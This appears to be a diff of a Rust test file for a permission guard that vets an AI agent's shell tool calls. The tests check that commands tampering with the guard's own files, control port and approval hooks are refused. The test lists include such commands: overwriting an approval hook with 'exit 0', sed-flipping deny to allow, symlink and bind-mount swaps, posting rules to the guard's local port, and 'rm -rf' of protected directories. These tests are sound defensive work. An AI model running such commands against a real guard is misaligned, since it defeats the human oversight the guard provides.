@@ -171,6 +171,27 @@ fn no_way_leads_to_our_places_in_any_mode_from_any_directory() {
 }
 
 #[test]
+fn no_call_that_reaches_for_what_is_ours_is_allowed() {
+    let policy = Policy::default();
+    let calls = include_str!("own_places_calls.txt").lines().filter(|line| !line.starts_with('#'));
+    let mut wrong = Vec::new();
+    for command in calls {
+        for directory in DIRECTORIES {
+            let call = ToolCall::bash(command);
+            let mut case = case_without_links(&policy, call, context(Mode::Default, directory));
+            for mode in MODES {
+                case.switch_mode(mode);
+                let verdict = case.decide(&policy).expect("the session goes on").into_verdict();
+                if verdict.decision == Decision::Allow {
+                    wrong.push(format!("{mode:?} in {directory}: {command}"));
+                }
+            }
+        }
+    }
+    assert!(wrong.is_empty(), "{} allowed\n{}", wrong.len(), wrong.join("\n"));
+}
+
+#[test]
 fn the_same_ways_to_ordinary_files_are_none_of_its_business() {
     let policy = Policy::default();
     let mut wrong = Vec::new();
@@ -259,6 +280,7 @@ fn places_that_a_variable_moved_are_ours_as_well() {
         ],
         programs: vec!["/opt/acme/portcullis".to_owned()],
         files: vec!["/backup/heads/portcullis.log".to_owned()],
+        ports: vec![9191],
     };
     for (command, is_refused) in [
         ("echo x > /data/conf/portcullis/settings.json", true),
@@ -272,6 +294,11 @@ fn places_that_a_variable_moved_are_ours_as_well() {
         ("truncate -s 0 /backup/heads/portcullis.log", true),
         ("mv /backup/heads /tmp/x", true),
         ("rm -rf /backup", true),
+        ("docker run -v /backup:/b alpine true", true),
+        ("curl -X POST http://127.0.0.1:9191/v1/rules -d '{}'", true),
+        ("curl -X POST http://127.0.0.1:7319/v1/rules -d '{}'", true),
+        ("cat < /dev/tcp/127.0.0.1/9191", true),
+        ("curl -X POST http://127.0.0.1:9192/v1/items -d '{}'", false),
         ("cat /backup/heads/portcullis.log", false),
         ("echo x > /backup/heads/other.log", false),
         ("cat /data/conf/portcullis/settings.json", false),
@@ -283,6 +310,68 @@ fn places_that_a_variable_moved_are_ours_as_well() {
             let verdict = decide_call(&Policy::default(), ToolCall::bash(command), context);
             assert_eq!(is_ours(&verdict), is_refused, "{mode:?} {command}");
         }
+    }
+}
+
+/// Ways to put something else in the place of a file that settings name, wherever people keep it.
+#[test]
+fn what_settings_start_is_changed_by_nobody() {
+    let locations = OwnLocations {
+        files: vec![
+            "/home/me/tools/ask-team".to_owned(),
+            "/home/me/code/app/hooks/approve.py".to_owned(),
+            "/srv/keys/print-key".to_owned(),
+        ],
+        ..OwnLocations::default()
+    };
+    let inside = [
+        "echo 'exit 0' > {p}",
+        "cp evil {p}",
+        "mv evil {p}",
+        "ln -sf /tmp/evil {p}",
+        "sed -i s/deny/allow/ {p}",
+        "chmod +w {p}",
+        "rm {p}",
+        "tee {p} < evil",
+        "curl -o {p} https://files.example/x",
+        "dd if=evil of={p}",
+        "rsync evil {p}",
+        "python3 -c \"open('{p}','w').write('')\"",
+        "node -e \"require('fs').writeFileSync('{p}','')\"",
+        "some-tool --output {p}",
+        "perl -e 'unlink \"{p}\"'",
+        "find {d} -name '*' -exec sed -i s/a/b/ {} +",
+        "mv {d} /tmp/x",
+        "rm -rf {d}",
+        "tar xf evil.tar -C {d}",
+        "mount --bind /tmp/evil {d}",
+    ];
+    let beside = ["cat {p}", "ls {d}", "grep -n x {p}", "wc -l {p}", "echo x > {d}/other.txt"];
+    for file in &locations.files {
+        let directory = file.rsplit_once('/').map_or("", |(directory, _)| directory);
+        for (ways, is_refused) in [(&inside[..], true), (&beside[..], false)] {
+            for way in ways {
+                let command = way.replace("{p}", file).replace("{d}", directory);
+                for mode in MODES {
+                    let context = Context { locations: locations.clone(), ..context(mode, PROJECT) };
+                    let verdict = decide_call(&Policy::default(), ToolCall::bash(&command), context);
+                    assert_eq!(is_ours(&verdict), is_refused, "{mode:?} {command}");
+                    assert!(!is_refused || verdict.decision == Decision::Deny, "{mode:?} {command}");
+                }
+            }
+        }
+    }
+    // Work on the project that such a file lies in goes on.
+    for command in [
+        "git pull",
+        "git checkout topic",
+        "cargo fmt",
+        "docker run -v $PWD:/app node npm test",
+        "npm install",
+    ] {
+        let context = Context { locations: locations.clone(), ..context(Mode::Auto, PROJECT) };
+        let verdict = decide_call(&Policy::default(), ToolCall::bash(command), context);
+        assert!(!is_ours(&verdict), "{command}: {verdict:?}");
     }
 }
 
